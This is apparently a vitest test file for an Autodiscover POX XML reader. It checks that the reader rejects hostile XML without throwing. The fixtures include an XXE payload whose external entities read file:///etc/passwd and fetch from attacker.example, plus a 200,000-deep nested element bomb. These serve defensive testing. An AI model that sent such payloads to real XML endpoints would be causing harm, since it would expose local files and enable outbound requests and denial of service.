/**
 * Issue 27, item 2: an Autodiscover POX answer built to hurt the parser (a DTD with external entities, 200,000
 * nested elements) fails that step with a reason; it never throws, so the other steps go on and no 500 answers.
 */
import { describe, expect, it } from "vitest";
import { readPoxResponse } from "../../../../src/server/emailConfig/discovery.js";

const XXE =
  `<?xml version="1.0"?><!DOCTYPE Autodiscover [<!ENTITY xxe SYSTEM "file:///etc/passwd">` +
  `<!ENTITY ext SYSTEM "https://attacker.example/x">]>` +
  `<Autodiscover><Response><Account><Protocol><Type>EXCH</Type><EwsUrl>&xxe;&ext;</EwsUrl></Protocol></Account>` +
  `</Response></Autodiscover>`;

const DEEP = `<Autodiscover><Response>${"<a>".repeat(200_000)}${"</a>".repeat(200_000)}</Response></Autodiscover>`;

describe("readPoxResponse on hostile XML", () => {
  it("fails a DTD with external entities with a reason, resolving no entity", () => {
    const verdict = readPoxResponse(XXE);
    expect(verdict).toEqual({ ok: false, detail: expect.stringContaining("DTD") as string });
  });

  it("fails 200,000 nested elements with a reason instead of throwing", () => {
    const verdict = readPoxResponse(DEEP);
    expect(verdict.ok).toBe(false);
    expect(verdict).toMatchObject({ detail: expect.stringContaining("nested") as string });
  });
});
